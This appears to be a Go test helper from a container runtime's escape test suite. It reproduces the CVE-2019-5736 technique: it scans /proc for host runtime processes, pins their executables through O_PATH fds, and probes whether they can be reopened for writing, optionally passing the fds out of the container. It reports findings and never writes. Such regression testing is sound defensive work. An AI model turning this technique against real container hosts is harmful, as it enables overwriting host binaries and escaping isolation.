// Command exeattack is the CVE-2019-5736 attacker of tent's escape tests
// (tests/escape_exe_test.go). Run inside a container, it watches /proc for
// processes running a tent binary (the init or exec's stage-2, or tent-init
// run again by a `#!/proc/self/exe` script), and tries to get write access
// to their executable: holding an O_PATH fd of /proc/PID/exe, it opens
// /proc/self/fd/N with O_WRONLY while the process runs and again once it is
// gone and ETXTBSY no longer protects the file. It never writes: an open that
// succeeds is reported (WRITABLE) and closed. With -send, each held fd is
// also passed over a unix socket (SCM_RIGHTS) to a process outside the
// container, which tries the same once the container is gone.
//
// One line per finding: "seen PID EXE", "held PID", "denied PID until it ended",
// "final PID ERR", "WRITABLE PID HOW", then "done seen=N denied=N final=N
// writable=N" (final: held fds whose process is gone, so ETXTBSY no longer
// answers).
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

type held struct {
	pid int
	fd  int
}

func main() {
	dur := flag.Duration("for", 5*time.Second, "how long to watch")
	want := flag.Int("want", 1, "stop once this many held exe fds outlived their process")
	send := flag.String("send", "", "unix socket to pass each held exe fd to")
	own := flag.String("own", "/bin/busybox", "the container's binary, besides this one")
	flag.Parse()
	a := attack{send: *send, own: map[[2]uint64]bool{}}
	for _, p := range []string{"/proc/self/exe", *own} {
		var st unix.Stat_t
		if err := unix.Stat(p, &st); err == nil {
			a.own[[2]uint64{st.Dev, st.Ino}] = true
		}
	}
	deadline := time.Now().Add(*dur)
	for time.Now().Before(deadline) && a.final < *want {
		a.scan()
		a.retry()
	}
	fmt.Printf("done seen=%d denied=%d final=%d writable=%d\n", a.seen, a.denied, a.final, a.writable)
}

type attack struct {
	send                          string
	own                           map[[2]uint64]bool // dev, inode
	known                         map[int]bool
	watch                         []int
	held                          []held
	seen, denied, final, writable int
}

// tentish says whether pid runs something other than the container's own
// binaries (this one and -own): a tent binary. Its exe is refused when it is
// not dumpable; otherwise its path, seen from here, is outside the root
// ("/"), so it is told apart by device and inode.
func (a *attack) tentish(pid int) (string, bool) {
	path := fmt.Sprintf("/proc/%d/exe", pid)
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err != nil {
		comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		return "comm:" + strings.TrimSpace(string(comm)), errors.Is(err, unix.EACCES)
	}
	exe, _ := os.Readlink(path)
	return exe, !a.own[[2]uint64{st.Dev, st.Ino}]
}

func (a *attack) scan() {
	if a.known == nil {
		a.known = map[int]bool{}
	}
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() || a.known[pid] {
			continue
		}
		exe, ok := a.tentish(pid)
		if !ok {
			continue
		}
		a.known[pid] = true
		a.seen++
		fmt.Printf("seen %d %s\n", pid, exe)
		a.watch = append(a.watch, pid)
	}
	keep := a.watch[:0]
	for _, pid := range a.watch {
		if a.grab(pid) {
			keep = append(keep, pid)
		}
	}
	a.watch = keep
}

// grab tries to hold pid's exe: an O_PATH fd, which pins the very file, so
// that retry's opens for writing test that file and no other. It says
// whether to try again (refused: not dumpable, yet; an exec'd stage-2 may
// become dumpable when its execve runs tent again). The held file is
// checked by fstat, not by pid: between the scan and this open the process
// may have exec'd the container's own binary (then it is dropped; opening
// that one for writing proves nothing, and a direct open of
// /proc/PID/exe for writing could get it once the process exits, as
// ETXTBSY then no longer answers).
func (a *attack) grab(pid int) bool {
	fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
	if errors.Is(err, unix.EACCES) {
		return true
	}
	if err != nil { // gone
		a.denied++
		fmt.Printf("denied %d until it ended\n", pid)
		return false
	}
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil || a.own[[2]uint64{st.Dev, st.Ino}] {
		unix.Close(fd) // it became the container's own binary
		return false
	}
	a.held = append(a.held, held{pid, fd})
	fmt.Printf("held %d\n", pid)
	if a.send != "" {
		if err := sendFD(a.send, fd); err != nil {
			fmt.Printf("send %d %v\n", pid, err)
		}
	}
	return false
}

// retry reopens each held exe for writing: ETXTBSY while the process runs,
// then whatever protects the file (EROFS), or success (WRITABLE).
func (a *attack) retry() {
	keep := a.held[:0]
	for _, h := range a.held {
		fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", h.fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
		switch {
		case err == nil:
			a.writable++
			a.final++
			fmt.Printf("WRITABLE %d held fd\n", h.pid)
			unix.Close(fd)
			unix.Close(h.fd)
		case errors.Is(err, unix.ETXTBSY):
			keep = append(keep, h)
		default:
			a.final++
			fmt.Printf("final %d %s\n", h.pid, errName(err))
			unix.Close(h.fd)
		}
	}
	a.held = keep
}

func sendFD(sock string, fd int) error {
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	return unix.Sendmsg(s, []byte("fd"), unix.UnixRights(fd), &unix.SockaddrUnix{Name: sock}, 0)
}

func errName(err error) string {
	var en unix.Errno
	if errors.As(err, &en) {
		if n := unix.ErrnoName(en); n != "" {
			return n
		}
	}
	return err.Error()
}
